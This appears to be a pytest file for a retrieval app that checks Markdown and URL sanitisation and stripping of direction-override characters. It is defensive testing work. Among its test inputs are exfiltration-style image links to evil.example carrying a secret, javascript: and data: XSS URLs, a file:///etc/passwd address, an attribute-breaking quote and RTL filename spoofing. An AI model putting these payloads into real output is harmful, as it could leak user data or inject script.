"""Text for Markdown and addresses: what others wrote stays text."""

import re

import pytest
from markdown_it import MarkdownIt

from helpers.chat import answer, citation
from ptmrag.language.markdown import literal_text, markdown_text
from ptmrag.language.printable import printable
from ptmrag.sources.web_address import web_address
from ptmrag.web.sources_panel import render_sources


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[1]: https://evil.example",
        "<https://evil.example>",
        "https://evil.example/?q=secret",
        "www.evil.example",
        "HTTP://evil.example",
    ],
)
def test_a_model_cannot_make_an_image_or_a_link(text: str) -> None:
    """A character of what would become an image, a link or the definition of one is escaped."""
    shown = markdown_text(text)
    assert not re.search(r"!\[|\]\(|\]:|<h|https?://|www\.", shown, re.IGNORECASE)
    assert "evil" in shown


DRAWINGS = (
    '```mermaid\ngraph LR\nA@{ img: "http://evil.example" }\n```',
    "~~~mermaid\ngraph LR\n~~~",
    "```` mermaid\nx\n````",
    "- one\n\n  ```mermaid \n  graph LR\n  ```",
    "> ```\tmermaid\n> graph LR",
)
LINKS = (
    "![a](//evil.example) [b](//evil.example) [c][d]\n\n[d]: //evil.example",
    "![a\\](//evil.example) !\\[b](//evil.example) \\![c](//evil.example)",
    "!\u200b[a](http://evil.example) <\u200bimg src=//evil.example>",
    "<//evil.example> ssh://evil.example <a:b> x@evil.example",
    "[![a](data:image/svg+xml,x)](javascript:alert(1)) [r]:\n//evil.example",
)


@pytest.mark.parametrize("text", [*DRAWINGS, *LINKS, "\n\n".join(LINKS)])
def test_a_draft_is_harmless_wherever_it_is_cut(text: str) -> None:
    """Of no beginning of it a renderer of Markdown makes a link, a picture, a tag or a drawing."""
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for end in range(1, len(text) + 1):
        rendered = reader.render(markdown_text(text[:end]))
        assert not re.search("<(?:img|a|svg)|evil[^<]*>|language-|class=", rendered), rendered


def test_a_mail_address_and_any_scheme_stay_text() -> None:
    """Gradio makes links of what only looks like one; a fence without a word stays a fence."""
    assert markdown_text("a@b.example ssh://b") == "a\\@b.example ssh:\\//b"
    assert markdown_text("```\nx @ y\n```") == "```\nx @ y\n```"


def test_emphasis_lists_and_marks_of_a_model_stay() -> None:
    """Markdown that only formats text is kept, and so are the citation marks."""
    text = "**ELECTRA** is `small`:\n\n- one [1]\n- two [2]\n\na < b"
    assert markdown_text(text) == text


def test_a_quote_is_not_emphasis() -> None:
    """Stars and underscores of a paper are shown literally."""
    assert literal_text("a*b*c x_i `y` ~~z~~") == r"a\*b\*c x\_i \`y\` \~\~z\~\~"
    assert (
        literal_text("# one\n1. two\n- three\n> four") == "\\# one\n1\\. two\n\\- three\n\\> four"
    )
    assert literal_text("&lt;b&gt;") == "&amp;lt;b&amp;gt;"


def test_marks_that_turn_the_direction_are_dropped() -> None:
    """A right-to-left override cannot make a page read differently from what is written."""
    assert printable("a\u202eb\u2066c\u200bd\x00\x1be") == "abcde"
    shown = render_sources(answer("x [1]", citation(title="safe\u202egpj.exe", quote="q\u2067x")))
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", shown)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "ftp://example.org/x",
        "//evil.example",
        "https:evil",
        "https://",
        "http://[",
        "https://arxiv.org@evil.example/",
        "https://a.example/\u202egpj",
        "zotero://open-pdf/library/items/ABCD2345",
        "zotero://select/library/items/ABCD2345?x=1",
        "zotero://select/library/items/ABCD2345\n",
        "zotero://select/groups/../items/ABCD2345",
        "",
    ],
)
def test_only_web_addresses_become_links(url: str) -> None:
    """Any other address is shown without a link."""
    assert web_address(url) is None
    assert "<a " not in render_sources(answer("x [1]", citation(url=url)))


@pytest.mark.parametrize("place", ["library", "groups/42"])
def test_an_item_of_zotero_becomes_a_link(place: str) -> None:
    """The address that opens an item is the only one of its kind."""
    address = f"zotero://select/{place}/items/ABCD2345"
    assert web_address(address) == address


def test_quotes_in_an_address_stay_in_the_attribute() -> None:
    """A web address is escaped as well."""
    shown = render_sources(
        answer("x [1]", citation(url='https://a.example/?x="onclick="y', page=None))
    )
    assert 'href="https://a.example/?x=&#34;onclick=&#34;y"' in shown
